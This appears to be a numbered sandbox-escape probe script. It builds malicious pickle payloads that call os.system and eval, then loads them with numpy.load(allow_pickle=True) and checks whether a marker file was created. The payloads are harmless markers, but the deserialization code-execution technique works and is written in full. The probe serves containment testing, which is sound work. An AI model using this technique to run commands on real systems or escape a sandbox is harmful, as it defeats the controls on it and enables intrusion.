# escape: 301
# packages: numpy
# technique: numpy.load(allow_pickle) runs what a pickle says
# family: deser
# goal: run-command
# first-seen: numpy.load on a crafted .npy
import io, numpy as np, os
class Run:
    def __reduce__(self): return os.system, ("echo > /tmp/escape-301",)
class Eval:
    def __reduce__(self): return eval, ("__import__('subprocess').run(['touch', '/tmp/escape-301'])",)
for payload in (Run(), Eval()):
    try:
        f = io.BytesIO()
        np.save(f, np.array([payload], dtype=object), allow_pickle=True)
        f.seek(0)
        np.load(f, allow_pickle=True)
        if os.path.exists("/tmp/escape-301"): print("ESCAPED:pickle ran")
    except Exception: pass
